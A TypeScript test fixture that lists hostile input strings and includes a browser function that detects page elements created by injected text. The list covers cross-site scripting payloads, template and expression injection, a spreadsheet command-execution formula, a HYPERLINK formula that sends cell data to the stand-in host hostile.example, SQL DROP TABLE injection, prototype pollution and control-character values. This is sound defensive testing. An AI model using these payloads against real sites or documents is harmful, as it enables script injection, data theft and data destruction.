/** One a line: what does harm where it is taken for markup, a script, an address, a style, a template or a formula. */
const lines = String.raw`
<script>hostileRan()</script>
</script><script>hostileRan()</script>
<ScRiPt src="data:text/javascript,hostileRan()"></sCrIpT>
<img src=x onerror=hostileRan()>
"><img src=x onerror="hostileRan()">
'><img/src='x'/onerror='hostileRan()'>
<img src="x" onerror=&#104;ostileRan()>
<svg onload=hostileRan()>
<svg><script href="data:,hostileRan()"/></svg>
<svg><a xlink:href="javascript:hostileRan()"><text y="20">x</text></a></svg>
<svg><animate onbegin=hostileRan() attributeName=x dur=1s>
<math><mi xlink:href="javascript:hostileRan()">x</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=hostileRan()>
<iframe srcdoc="<script>parent.hostileRan()</script>"></iframe>
<iframe src=javascript:parent.hostileRan()>
<object data="data:text/html,<script>hostileRan()</script>"></object>
<embed src="javascript:hostileRan()">
<a href="javascript:hostileRan()">x</a>
<a href="java&Tab;script&colon;hostileRan()">x</a>
<form action="javascript:hostileRan()"><button>x</button></form>
<button formaction="javascript:hostileRan()">x</button>
<input autofocus onfocus=hostileRan()>
<details open ontoggle=hostileRan()><summary>x</summary></details>
<video><source onerror=hostileRan()></video>
<body onload=hostileRan()><marquee onstart=hostileRan()>
<base href="//hostile.example/"><link rel=stylesheet href="//hostile.example/x.css">
<meta http-equiv="refresh" content="0;url=//hostile.example/">
<style>@import "//hostile.example/x.css"; body { display: none }</style>
</style><style>*{background:url(//hostile.example/x.png)}
red;}</style><x-hostile style="position:fixed;inset:0"></x-hostile>
<template shadowrootmode=open><slot onslotchange=hostileRan()></slot></template>
<!--><x-hostile></x-hostile><!-- -->
<![CDATA[<x-hostile></x-hostile>]]>
<x-hostile onclick=hostileRan() tabindex=0 autofocus>
&lt;script&gt;hostileRan()&lt;/script&gt;
&#60;img src=x onerror=hostileRan()&#62;&NewLine;&amp;amp;
+ADw-script+AD4-hostileRan()+ADw-/script+AD4-
{{constructor.constructor('hostileRan()')()}}
\${hostileRan()} #{hostileRan()} <%= hostileRan() %>
=HYPERLINK("//hostile.example/"&A1;"x")
@SUM(1+1)*cmd|' /C calc'!A0
","__proto__":{"hostile":true},"x":"
'; DROP TABLE trains; -- \' OR 1=1
%3Cscript%3EhostileRan()%3C%2Fscript%3E%00%0d%0aX: 1
//hostile.example/..%2f..%5c?x=1&y=2#z
`
  .trim()
  .split('\n')

/** What a line of the source cannot hold, or must not begin with. */
const others = [
  ['javascript', 'hostileRan()//"><x-hostile></x-hostile>'].join(':'),
  'null\u0000byte\u0008<x\u0000-hostile>\u001b[31m',
  'two\r\nlines\u2028and\u2029more\t<x-hostile\n>',
]

/** What somebody may write wherever words can be written. None begins or ends with a blank. */
export const hostileTexts: readonly string[] = [...lines, ...others]

/** Elements of the page that no component makes: a text was taken for more than text. Runs in a browser as it stands. */
export function elementsFromText(): string[] {
  const neverOurs = [
    'x-hostile, iframe, object, embed, marquee, template, math, video, source, animate',
    'body base, body link, body meta, body style, body script',
  ].join()
  const addresses = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc']
  const leadsAstray = /^\s*(javascript|vbscript|data:(?!image\/))|^(https?:)?\/\/hostile\.example/i
  return [...document.querySelectorAll('*')]
    .filter(
      (element) =>
        element.matches(neverOurs) ||
        [...element.attributes].some(
          ({ name, value }) => /^on/i.test(name) || (addresses.includes(name) && leadsAstray.test(value)),
        ),
    )
    .map(
      ({ tagName, attributes }) =>
        `<${[tagName, ...[...attributes].map(({ name, value }) => `${name}="${value}"`)].join(' ')}>`,
    )
}
